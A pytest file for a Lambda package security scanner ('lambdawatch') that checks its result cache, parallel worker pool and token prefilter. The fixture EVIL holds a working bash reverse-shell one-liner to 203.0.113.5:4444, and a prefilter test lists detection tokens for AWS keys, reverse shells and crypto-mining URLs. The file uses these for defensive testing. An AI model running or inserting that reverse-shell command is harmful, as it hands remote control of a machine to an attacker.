"""The per-file result cache, the worker pool and the token prefilter give the same answers as
a plain serial scan: the cache only saves work, keyed so that anything that could change a
file's result (its bytes, its path, the scanner's checks and code) misses."""

from __future__ import annotations

import io
import os
import stat
import zipfile
from pathlib import Path

import pytest
from click.testing import CliRunner

from lambdawatch.cli.scan import scan
from lambdawatch.codescan import cache as cache_mod
from lambdawatch.codescan import parallel
from lambdawatch.codescan.cache import ScanCache, file_key, fingerprint
from lambdawatch.codescan.filejob import FileBudget
from lambdawatch.codescan.model import CATALOGUE, CheckMeta, Finding, Severity
from lambdawatch.codescan.parallel import chunks
from lambdawatch.codescan.runfiles import ScanOptions
from lambdawatch.codescan.scanner import CASED_TOKENS, LOWER_TOKENS, scan_bytes, scan_file
from lambdawatch.codescan.tokens import TokenSet

EVIL = b"import os\nos.system('bash -i >& /dev/tcp/203.0.113.5/4444 0>&1')\n"
BENIGN = b"import json\n\ndef handler(event, context):\n    return json.dumps(event)\n"


def package(extra: dict[str, bytes] | None = None) -> bytes:
    buf = io.BytesIO()
    members = {"handler.py": EVIL, "lib/util.py": BENIGN, **(extra or {})}
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for k, v in members.items():
            zf.writestr(k, v)
    return buf.getvalue()


def doc(result: object) -> dict[str, object]:
    return result.to_dict()  # type: ignore[attr-defined, no-any-return]


def test_warm_scan_is_served_from_the_cache_with_identical_results(tmp_path: Path) -> None:
    data = package()
    plain = scan_bytes("t", "p.zip", data)
    cold = ScanCache.open(tmp_path / "c.sqlite")
    first = scan_bytes("t", "p.zip", data, options=ScanOptions(cache=cold))
    assert (cold.hits, cold.misses) == (0, 2)
    cold.close()
    warm = ScanCache.open(tmp_path / "c.sqlite")
    second = scan_bytes("t", "p.zip", data, options=ScanOptions(cache=warm))
    assert (warm.hits, warm.misses) == (2, 0)
    warm.close()
    assert doc(first) == doc(second) == doc(plain)
    assert ("CS101", "handler.py", Severity.CRITICAL) in {
        (f.code, f.file, f.severity) for f in second.findings
    }


def test_a_changed_file_misses_and_the_others_hit(tmp_path: Path) -> None:
    c = ScanCache.open(tmp_path / "c.sqlite")
    scan_bytes("t", "p.zip", package(), options=ScanOptions(cache=c))
    c.close()
    c = ScanCache.open(tmp_path / "c.sqlite")
    changed = package({"lib/util.py": BENIGN + EVIL})
    result = scan_bytes("t", "p.zip", changed, options=ScanOptions(cache=c))
    assert (c.hits, c.misses) == (1, 1)
    assert ("CS101", "lib/util.py") in {(f.code, f.file) for f in result.findings}


def test_key_covers_path_vendoring_parse_and_the_scanner_fingerprint() -> None:
    base = file_key("a.py", EVIL, False, True)
    assert base == file_key("a.py", EVIL, False, True)
    assert (
        len(
            {
                base,
                file_key("b.py", EVIL, False, True),
                file_key("a.py", EVIL, True, True),
                file_key("a.py", EVIL, False, False),
                file_key("a.py", EVIL + b"\n", False, True),
            }
        )
        == 5
    )
    old = fingerprint()
    CATALOGUE["ZZ999"] = CheckMeta("ZZ999", "new-check", "x", "new", Severity.LOW, "low", "")
    fingerprint.cache_clear()
    try:
        assert fingerprint() != old  # a new check invalidates every entry
        assert file_key("a.py", EVIL, False, True) != base
    finally:
        del CATALOGUE["ZZ999"]
        fingerprint.cache_clear()
    assert fingerprint() == old


def test_corrupt_cache_file_is_reported_and_the_scan_goes_on(tmp_path: Path) -> None:
    bad = tmp_path / "c.sqlite"
    bad.write_bytes(b"this is not a database" * 100)
    c = ScanCache.open(bad)
    result = scan_bytes("t", "p.zip", package(), options=ScanOptions(cache=c))
    assert result.errors == [
        (f"scan cache {bad} unusable (file is not a database): scanning without it")
    ]
    assert doc(result)["findings"] == doc(scan_bytes("t", "p.zip", package()))["findings"]


def test_damaged_entry_is_a_miss_and_is_rewritten(tmp_path: Path) -> None:
    c = ScanCache.open(tmp_path / "c.sqlite")
    scan_bytes("t", "p.zip", package(), options=ScanOptions(cache=c))
    c.close()
    c = ScanCache.open(tmp_path / "c.sqlite")
    assert c.conn is not None
    c.conn.execute("UPDATE results SET value = '{\"f\": 1}'")
    result = scan_bytes("t", "p.zip", package(), options=ScanOptions(cache=c))
    assert (c.hits, c.misses) == (0, 2)
    c.close()
    assert ("CS101", "handler.py") in {(f.code, f.file) for f in result.findings}


def test_cache_file_is_private(tmp_path: Path) -> None:
    c = ScanCache.open(tmp_path / "sub" / "c.sqlite")
    c.close()
    assert stat.S_IMODE(os.stat(tmp_path / "sub" / "c.sqlite").st_mode) == 0o600


def test_cli_cache_options(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "xdg"))
    assert cache_mod.default_path() == tmp_path / "xdg" / "lambdawatch" / "scan.sqlite"
    pkg = tmp_path / "p.zip"
    pkg.write_bytes(package())
    run = CliRunner().invoke(scan, [str(pkg), "--no-cache", "--format", "json"])
    assert run.exit_code == 1 and not (tmp_path / "xdg").exists()
    run = CliRunner().invoke(scan, [str(pkg), "--format", "json"])
    assert run.exit_code == 1 and cache_mod.default_path().is_file()
    run = CliRunner().invoke(scan, [str(pkg), "--cache", str(tmp_path / "mine.sqlite")])
    assert run.exit_code == 1 and (tmp_path / "mine.sqlite").is_file()
    run = CliRunner().invoke(scan, [str(pkg), "--no-cache", "--workers", "0"])
    assert run.exit_code == 2 and "--workers >= 1" in run.output


def many_files() -> bytes:
    mod = "".join(f"def f{i}(x):\n    return [x, {i}, 'v{i}'] * 3\n" for i in range(300))
    files = {f"app/m{i}.py": mod.encode() for i in range(8)}
    files["app/zz_shell.py"] = EVIL
    return package(files)


def test_parallel_scan_equals_serial_scan(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(parallel, "MIN_PARALLEL_BYTES", 0)  # small package, pool all the same
    monkeypatch.setattr(parallel, "CHUNK_FILES", 2)
    data = many_files()
    no_timer = FileBudget(file_seconds=0)  # a loaded machine must not change the answer
    serial = scan_bytes("t", "p.zip", data, options=ScanOptions(workers=1, file_budget=no_timer))
    pooled = scan_bytes("t", "p.zip", data, options=ScanOptions(workers=2, file_budget=no_timer))
    assert doc(pooled) == doc(serial)
    assert ("CS101", "app/zz_shell.py") in {(f.code, f.file) for f in pooled.findings}
    assert pooled.files_scanned == 11


def test_chunks_cover_every_job_once_biggest_first() -> None:
    jobs = [(i, f"f{i}", b"x" * (i * 100_000), False) for i in range(12)]
    parts = chunks(jobs)
    flat = [p for part in parts for p in part]
    assert sorted(flat) == list(range(12)) and flat[0] == 11


@pytest.mark.parametrize(
    ("blob", "expected"),
    [
        (b"", False),
        (b"nothing here", False),
        (b"xx AKIA yy", True),
        (b"akia: the cased tokens match in their case only", False),
        (b"... BASH -I >& ...", True),
        (b"\x00\x01 StRaTuM+tcp://", True),
        (b"var _0x1f2e", True),
        (b"\x00" * 5000, False),
    ],
)
def test_hyperscan_and_substring_prefilters_agree(blob: bytes, expected: bool) -> None:
    plain = TokenSet(CASED_TOKENS, LOWER_TOKENS, "substring")
    assert plain(blob) is expected
    pytest.importorskip("hyperscan")
    assert TokenSet(CASED_TOKENS, LOWER_TOKENS, "hyperscan")(blob) is expected


def _dies_on_boom(
    path: str, data: bytes, vendored: bool, errors: list[str], parse: bool
) -> list[Finding]:
    if path.endswith("boom.py"):
        os._exit(3)  # what a segfaulting native parser or the OOM killer does to a worker
    return scan_file(path, data, vendored, errors, parse=parse)


def test_a_dead_worker_costs_its_chunk_only_and_fails_the_gate(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(parallel, "MIN_PARALLEL_BYTES", 0)
    monkeypatch.setattr(parallel, "CHUNK_FILES", 1)
    monkeypatch.setattr(parallel, "_scan_one", _dies_on_boom)  # inherited by forked workers
    names = [f"app/m{i}.py" for i in range(12)]
    data = package({**{n: BENIGN for n in names}, "app/boom.py": b"x = 1\n" * 1000})
    result = scan_bytes("t", "p.zip", data, options=ScanOptions(workers=2))
    died = {f.file for f in result.findings if f.code == "PK001"}
    assert "app/boom.py" in died
    assert all(
        f.severity == Severity.HIGH and f.message.startswith("scan worker died")
        for f in result.findings
        if f.code == "PK001"
    )
    assert result.files_scanned == 15  # every file is accounted for: scanned or reported
    assert {e.split(":")[0] for e in result.errors} == died
